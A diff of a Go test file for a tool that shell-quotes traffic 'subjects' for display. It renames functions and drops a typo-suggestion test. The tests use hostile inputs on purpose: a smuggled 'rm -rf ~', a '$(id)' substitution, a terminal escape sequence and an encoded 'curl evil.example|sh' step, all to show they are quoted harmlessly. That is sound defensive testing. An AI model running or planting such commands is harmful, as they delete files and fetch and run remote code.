@@ -1,9 +1,8 @@
-package main
+package subject
 
 import (
 	"net/netip"
 	"os/exec"
-	"slices"
 	"strings"
 	"testing"
 
@@ -98,13 +97,13 @@ func wantRead(t interface {
 	Errorf(string, ...any)
 }, s traffic.Subject, shells ...string) {
 	t.Helper()
-	line := subject(s)
+	line := Text(s)
 	if line != terminal.Shown(line) {
 		t.Fatalf("%q is shown as %q, which a terminal is not shown as it is", s, line)
 	}
 	for _, shell := range shells {
 		words := inShell(t, shell, line)
-		got, err := readSubject(words, 8, 8) // what is shown has its own prefix lengths
+		got, err := Read(words, 8, 8) // what is shown has its own prefix lengths
 		if err != nil || got != s {
 			t.Errorf("%q is shown as %s, which %s makes %q of, and that is read as %q, %v", s, line, shell, words, got, err)
 		}
@@ -117,7 +116,7 @@ func wantRead(t interface {
 // What is no subject names nobody, and a shell finds nothing in it either.
 func TestWhatIsNoSubjectIsHarmlessToo(t *testing.T) {
 	for _, bad := range []traffic.Subject{"device='; rm -rf ~'", "=x", "device=$(id)", "device=%zz", "\x1b[2J"} {
-		line := subject(bad)
+		line := Text(bad)
 		if line != terminal.Shown(line) || len(inShell(t, "sh", line)) != 1 {
 			t.Errorf("%q is shown as %s", bad, line)
 		}
@@ -137,7 +136,7 @@ func TestSubjectsAreShownForReading(t *testing.T) {
 		"ip=192.0.2.1%2F32&device=tv%207":                                                  "'ip=192.0.2.1%2F32&device=tv%207'",
 		"ip=192.0.2.1%2F32&device=%3Bcurl%20evil.example%7Csh%3B%20user%3Dalice":           "'ip=192.0.2.1%2F32&device=%3Bcurl%20evil.example%7Csh%3B%20user%3Dalice'",
 	} {
-		if got := subject(s); got != want {
+		if got := Text(s); got != want {
 			t.Errorf("%q is shown as %q, want %q", s, got, want)
 		}
 	}
@@ -166,32 +165,9 @@ func TestReadSubject(t *testing.T) {
 		{"user=", "", "allowed: FIELD=VALUE"},
 		{"192.0.2.1", "", "allowed: FIELD=VALUE"},
 	} {
-		got, err := readSubject(strings.Fields(tc.words), 32, 64)
+		got, err := Read(strings.Fields(tc.words), 32, 64)
 		if got != tc.want || (err == nil) != (tc.err == "") || err != nil && !strings.Contains(err.Error(), tc.err) {
 			t.Errorf("%s: got %q, %v; want %q, %s", tc.words, got, err, tc.want, tc.err)
 		}
-	}
-}
-
-// A name that nothing has is answered with what was probably meant.
-func TestUnknownNames(t *testing.T) {
-	known := []string{"catalogue-scrape", "guest-token-flood", "login-guessing", "a", "b", "c"}
-	for got, want := range map[string]string{
-		"guest-token-flod": `there is no rule "guest-token-flod"; did you mean guest-token-flood?; weir rules list shows the rules`,
-		"login_guessing":   `there is no rule "login_guessing"; did you mean login-guessing?; weir rules list shows the rules`,
-		"zzzzzzzz":         `there is no rule "zzzzzzzz"; known: catalogue-scrape, guest-token-flood, login-guessing, a, b and 1 more; weir rules list shows the rules`,
-	} {
-		if err := unknown("rule", got, known, "weir rules list shows the rules"); err.Error() != want {
-			t.Errorf("%s: got  %v\nwant %s", got, err, want)
-		}
-	}
-	if err := unknown("rule", "x", nil, "see there"); err.Error() != `there is no rule "x", and no other` {
-		t.Errorf("of none: %v", err)
-	}
-	if err := oneOf("action", "writtn", decisionActions()...); err == nil || !strings.HasSuffix(err.Error(), "; did you mean written?") {
-		t.Errorf("an action: %v", err)
-	}
-	if !slices.Contains(decisionActions(), "withheld") || oneOf("action", "withheld", decisionActions()...) != nil {
-		t.Error("withheld is no action")
 	}
 }
